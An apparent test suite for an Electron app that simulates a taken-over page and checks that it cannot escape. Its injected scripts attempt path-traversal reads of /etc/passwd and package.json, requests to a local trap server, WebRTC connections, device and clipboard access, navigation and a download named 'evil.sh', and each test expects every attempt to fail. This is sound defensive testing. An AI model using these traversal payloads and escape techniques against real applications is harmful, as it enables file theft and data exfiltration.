/** How a page that was taken over tries to get out: to other servers, files and windows. */
import { readdir } from 'node:fs/promises';

import { describe, expect, it } from 'vitest';

import { startTakenOver } from './support/taken-over.ts';
import { startTrap } from './support/trap.ts';

describe('a page that has been taken over', () => {
  it('cannot read a file', async () => {
    await using app = await startTakenOver();
    const seen = await app.run(`
      const names = ['file:///etc/passwd', 'parley://app/../../package.json',
        'parley://app/%2e%2e/%2e%2e/package.json', 'parley://app/..%2f..%2fpackage.json',
        'parley://app/..%5c..%5cpackage.json', 'parley://app//etc/passwd', 'parley://other/index.html',
        'parley://app/%00', 'parley://app/assets/%252e%252e/%252e%252e/package.json',
        'filesystem:parley://app/temporary/x', 'view-source:parley://app/index.html'];
      const seen = [];
      for (const name of names) {
        const answer = await outcome(fetch(name));
        if (answer.ok) seen.push(name + ' ' + (await answer.text()).slice(0, 80));
        const old = await outcome(new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = () => resolve(request.status);
          request.onerror = () => reject(new Error('refused'));
          try { request.open('GET', name); request.send(); } catch (error) { reject(error); }
        }));
        if (old === 200) seen.push('XHR ' + name);
      }
      const posted = await outcome(fetch('/index.html', { method: 'POST', body: 'x' }));
      return [seen, posted.status];
    `);
    expect(seen).toEqual([[], 403]);
  });

  it('meets the same headers whatever it asks its own scheme for', async () => {
    await using app = await startTakenOver();
    const headers = await app.run(`
      const names = ['content-security-policy', 'cross-origin-opener-policy',
        'cross-origin-embedder-policy', 'cross-origin-resource-policy', 'permissions-policy',
        'referrer-policy', 'x-content-type-options'];
      const answers = await Promise.all([fetch('/index.html'), fetch('/indicator.html'),
        fetch('/nothing'), fetch('/%5c'), fetch('/index.html', { method: 'PUT' })]);
      return answers.map(({ status, headers }) =>
        [status, names.filter((name) => headers.get(name) === null)]);
    `);
    expect(headers).toEqual([
      [200, []],
      [200, []],
      [404, []],
      [403, []],
      [403, []],
    ]);
  });

  it('reaches no other server by any means of the web', async () => {
    await using trap = await startTrap();
    await using app = await startTakenOver();
    const web = `http://127.0.0.1:${trap.http}`;
    const outcomes = await app.run(`
      const web = ${JSON.stringify(web)};
      const element = (name, attributes) => {
        const made = Object.assign(document.createElement(name), attributes);
        document.body.append(made);
        return new Promise((resolve) => { made.onload = () => resolve('loaded');
          made.onerror = () => resolve('refused'); setTimeout(() => resolve('nothing'), 500); });
      };
      const tried = await Promise.all([
        element('script', { src: web + '/script.js' }),
        element('img', { src: web + '/image.png' }),
        element('link', { rel: 'stylesheet', href: web + '/style.css' }),
        element('link', { rel: 'prefetch', href: web + '/prefetch' }),
        element('link', { rel: 'preconnect', href: web }),
        element('object', { data: web + '/object' }),
        element('embed', { src: web + '/embed' }),
        element('video', { src: web + '/video' }),
        outcome(fetch(web + '/fetch', { mode: 'no-cors' })).then((it) => it.rejected ? 'refused' : 'loaded'),
        outcome(import(web + '/module.js')).then((it) => it.rejected ? 'refused' : 'loaded'),
      ]);
      // Its error page counts as loaded.
      void element('iframe', { src: web + '/frame' });
      navigator.sendBeacon(web + '/beacon', 'x');
      const socket = (make) => new Promise((resolve) => { try { const made = make();
        made.onerror = () => resolve('refused'); made.onopen = () => resolve('opened');
        } catch { resolve('refused'); } });
      tried.push(await socket(() => new WebSocket('ws://127.0.0.1:${trap.http}/socket')));
      tried.push(await socket(() => new EventSource(web + '/events')));
      const form = Object.assign(document.createElement('form'), { action: web + '/form', method: 'post' });
      document.body.append(form); form.submit();
      try { new Worker(web + '/worker.js'); } catch {}
      try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); tried.push('refused'); } catch { tried.push('refused'); }
      tried.push(await outcome(navigator.serviceWorker?.register(web + '/sw.js')).then((it) => it?.rejected ? 'refused' : 'none'));
      try { (0, eval)('1'); tried.push('evaluated'); } catch { tried.push('refused'); }
      return tried;
    `);
    expect(outcomes).not.toContain('loaded');
    expect(outcomes).not.toContain('opened');
    expect(outcomes).not.toContain('evaluated');
    expect(trap.seen).toEqual([]);
  });

  it('gets no connection by WebRTC, and none of the other devices', async () => {
    await using trap = await startTrap();
    await using app = await startTakenOver();
    const result = await app.run(`
      const iceServers = [{ urls: 'stun:127.0.0.1:${trap.udp}' },
        { urls: 'turn:127.0.0.1:${trap.tcp}?transport=tcp', username: 'a', credential: 'b' },
        { urls: 'turn:127.0.0.1:${trap.udp}', username: 'a', credential: 'b' }];
      let candidates = 0;
      try {
        const peer = new RTCPeerConnection({ iceServers });
        peer.onicecandidate = ({ candidate }) => { if (candidate) candidates += 1; };
        peer.createDataChannel('x');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((resolve) => { peer.onicegatheringstatechange = () =>
          peer.iceGatheringState === 'complete' && resolve(); setTimeout(resolve, 5000); });
        peer.close();
      } catch {}
      const patience = new Promise((resolve) => setTimeout(resolve, 3000));
      const devices = await Promise.all([
        outcome(navigator.usb?.requestDevice({ filters: [] })),
        outcome(navigator.serial?.requestPort()),
        outcome(navigator.hid?.requestDevice({ filters: [] })),
        outcome(navigator.bluetooth?.requestDevice({ acceptAllDevices: true })),
        outcome(navigator.requestMIDIAccess?.({ sysex: true })),
        outcome(navigator.clipboard.readText()),
        outcome(window.showDirectoryPicker?.()),
        outcome(window.queryLocalFonts?.()),
      ].map((asked) => Promise.race([asked, patience])));
      return devices.filter((it) => it !== undefined && it.rejected === undefined && it.length !== 0);
    `);
    expect(result).toEqual([]);
    expect(trap.seen).toEqual([]);
  });

  it('cannot navigate, open a window, leave by a link or save a file', async () => {
    await using app = await startTakenOver();
    await app.app.electron.evaluate(({ shell }) => {
      const opened: string[] = [];
      Object.assign(globalThis, { opened });
      shell.openExternal = async (address) => void opened.push(address);
    });
    await app.run(`
      const link = (attributes) => { const made = Object.assign(document.createElement('a'), attributes);
        document.body.append(made); made.click(); };
      link({ href: 'https://example.org/' });
      link({ href: 'https://platform.openai.com/', target: '_blank' });
      link({ href: URL.createObjectURL(new Blob(['#!/bin/sh'])), download: 'evil.sh' });
      link({ href: 'data:text/plain,evil', download: 'evil.txt' });
      link({ href: 'mailto:a@b.c' });
      for (let round = 0; round < 50; round += 1) window.open('https://platform.openai.com/' + round);
      window.open('parley://app/index.html'); window.open('about:blank');
      try { location.assign('https://example.org/'); } catch {}
      try { location.assign('file:///etc/passwd'); } catch {}
      try { location.assign('data:text/html,hello'); } catch {}
      try { top.location.replace('parley://other/'); } catch {}
      const frame = document.createElement('iframe'); document.body.append(frame);
      try { frame.contentWindow.location = 'https://example.org/'; } catch {}
      await new Promise((resolve) => setTimeout(resolve, 500));
    `);
    expect(await app.run('return location.href')).toBe('parley://app/index.html');
    const outside = await app.app.electron.evaluate(({ app, BrowserWindow }) => ({
      opened: (globalThis as { opened?: string[] }).opened,
      windows: BrowserWindow.getAllWindows().length,
      downloads: app.getPath('downloads'),
    }));
    expect(outside).toMatchObject({ opened: [], windows: 1 });
    const saved = await readdir(outside.downloads).catch(() => []);
    expect(saved.filter((name) => name.startsWith('evil'))).toEqual([]);
  });
});
